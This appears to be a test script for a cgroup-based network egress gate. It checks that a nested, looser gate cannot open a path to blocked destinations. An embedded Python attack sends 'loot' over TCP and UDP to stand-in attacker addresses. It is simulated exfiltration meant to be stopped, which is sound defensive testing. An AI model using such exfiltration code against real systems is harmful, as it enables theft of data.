#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: has a second gate that allows the destination, below the one that does not, or above it
# stopped-by: connect4, connect6, sendmsg4, egress
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000
OUTER=$CG
mkdir "$OUTER/inner"

attack_by <<'PYTHON'
from attacker import *

older = tcp(EVIL4)
older.connect((EVIL4, 443))
ready()
with attempt("older"):
    older.sendall(loot("older"))
for evil, tag in (EVIL4, "tcp4"), (EVIL6, "tcp6"):
    with attempt(tag):
        sock = tcp(evil)
        sock.connect((evil, 443))
        sock.sendall(loot(tag))
with attempt("udp"):
    udp(EVIL4).sendto(loot("udp"), (EVIL4, 9000))
PYTHON
CG=$OUTER/inner
works_once_open stolen:older stolen:tcp4 stolen:tcp6 stolen:udp
loose() {
	gate_on "$1" --allow 203.0.113.0/24=tcp/443 --allow 203.0.113.0/24=udp/9000 \
		--allow 2001:db8:bad::/48=tcp/443
}
below() {
	gate_on "$OUTER"
	loose "$OUTER/inner"
}
above() {
	loose "$OUTER"
	gate_on "$OUTER/inner"
}
for where in below above; do
	stopped_once_open "$where"
	recorded connect4 destination
	recorded connect6 destination
	recorded sendmsg4 destination
	recorded 'egress|sock_destroy' destination
	: >"$SCRATCH/record"
	kvgate detach --all >/dev/null
done
